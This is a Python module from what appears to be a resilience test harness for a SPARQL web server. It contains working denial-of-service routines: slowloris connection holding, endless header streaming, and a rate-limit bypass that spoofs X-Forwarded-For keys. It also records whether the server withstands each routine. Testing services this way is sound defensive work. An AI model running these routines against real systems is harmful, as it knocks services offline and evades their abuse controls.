"""Attacks of their own shape: slowloris, endless headers, a budget key of the client's choosing."""

from __future__ import annotations

import asyncio
import itertools
import random

from .attacker import Tally, repeat, until
from .config import ATTACKER, CONNECT_AT_ONCE, QUERY_WORKERS, SLOW_BYTE_EVERY, VICTIM_TIMEOUT
from .payloads import slow_query
from .wire import Target, connect, error_name, exchange, sparql_get, status_of


async def slowloris(target: Target, deadline: float, tally: Tally, *, connections: int) -> None:
    """``connections`` requests whose head never ends: a byte every :data:`SLOW_BYTE_EVERY` s."""
    connecting = asyncio.Semaphore(CONNECT_AT_ONCE)
    held: set[int] = set()
    head = f"GET /-/health HTTP/1.1\r\nHost: {target.authority}\r\nX-a: ".encode()

    async def hold(c: int) -> None:
        async with connecting:
            try:
                reader, writer = await connect(target, ATTACKER)
            except OSError as exc:
                tally.counts["connect_failed"] += 1
                tally.errors[error_name(exc)] += 1
                return
        tally.counts["opened"] += 1
        held.add(c)
        try:
            writer.write(head)
            await asyncio.sleep(random.uniform(0, SLOW_BYTE_EVERY))
            while True:
                try:
                    data = await asyncio.wait_for(reader.read(4096), SLOW_BYTE_EVERY)
                except TimeoutError:
                    writer.write(b"a")
                    continue
                held.discard(c)
                if data:
                    tally.statuses[str(status_of(data))] += 1  # answered: the server gave up on it
                else:
                    tally.counts["closed_by_server"] += 1
                return
        except OSError as exc:
            held.discard(c)
            tally.errors[error_name(exc)] += 1
        finally:
            writer.close()

    def at_end() -> None:
        tally.counts["held_open_at_end"] = len(held)
        settled = tally.counts["opened"] + tally.counts["connect_failed"]
        tally.counts["still_connecting_at_end"] = connections - settled

    await until(deadline, [hold(c) for c in range(connections)], at_end)


async def header_stream(target: Target, deadline: float, tally: Tally, *, connections: int) -> None:
    """``connections`` requests whose head is header lines without end, written as fast as the
    server reads them; a connection the server ends is opened again."""
    start = f"GET /-/health HTTP/1.1\r\nHost: {target.authority}\r\n".encode()
    lines = b"X-a: b\r\n" * 4096

    async def stream() -> None:
        reader, writer = await connect(target, ATTACKER)
        answer = asyncio.ensure_future(reader.read(4096))
        try:
            writer.write(start)
            while not answer.done():
                writer.write(lines)
                await writer.drain()
                tally.counts["header_bytes_sent"] += len(lines)
            data = answer.result()
            if data:
                tally.statuses[str(status_of(data))] += 1
            else:
                tally.counts["closed_by_server"] += 1
        finally:
            answer.cancel()
            writer.close()

    async def client() -> None:
        while True:
            tally.counts["connections"] += 1
            try:
                await stream()
            except OSError as exc:
                tally.errors[error_name(exc)] += 1
                await asyncio.sleep(0.05)

    await until(deadline, [client() for _ in range(connections)])


def fresh_key() -> str:
    return "10.{}.{}.{}".format(*(random.randrange(256) for _ in range(3)))


async def forwarded_for(target: Target, deadline: float, tally: Tally, *, source: str,
                        other: str, connections: int) -> None:
    """Spend one ``X-Forwarded-For`` key's budget with slow queries; then ask with the same key,
    with a new one, and from ``other`` without any; then flood slow queries, a new key each."""
    loop = asyncio.get_running_loop()
    spent, n = fresh_key(), itertools.count()

    def forwarded(key: str | None) -> list[tuple[str, str]]:
        return [("X-Forwarded-For", key)] if key else []

    async def status(key: str | None, src: str = source) -> int | None:
        # a comment of its own: an answer from the cache would not ask the budget
        data = sparql_get(target, f"ASK {{}} # {next(n)}", forwarded(key))
        return (await exchange(target, data, source=src, timeout=VICTIM_TIMEOUT)).status

    began, spent_after = loop.time(), "not within the attack"
    while loop.time() < deadline - 1:
        replies = await asyncio.gather(*(
            exchange(target, slow_query(target, next(n), forwarded(spent)), source=source,
                     timeout=deadline - loop.time()) for _ in range(QUERY_WORKERS)))
        if any(r.status == 429 for r in replies):
            spent_after = round(loop.time() - began, 1)
            break
    facts = tally.facts
    facts["budget_spent_after_s"] = spent_after
    facts["same_key_status"] = await status(spent)
    facts["new_key_status"] = await status(fresh_key())
    facts["other_address_status"] = await status(None, other)
    answers = (facts["same_key_status"], facts["new_key_status"])
    facts["client_picks_its_key"] = answers == (429, 200)
    await repeat(target, deadline, tally, connections=connections, source=source,
                 make=lambda t, i: slow_query(t, i, forwarded(fresh_key())))
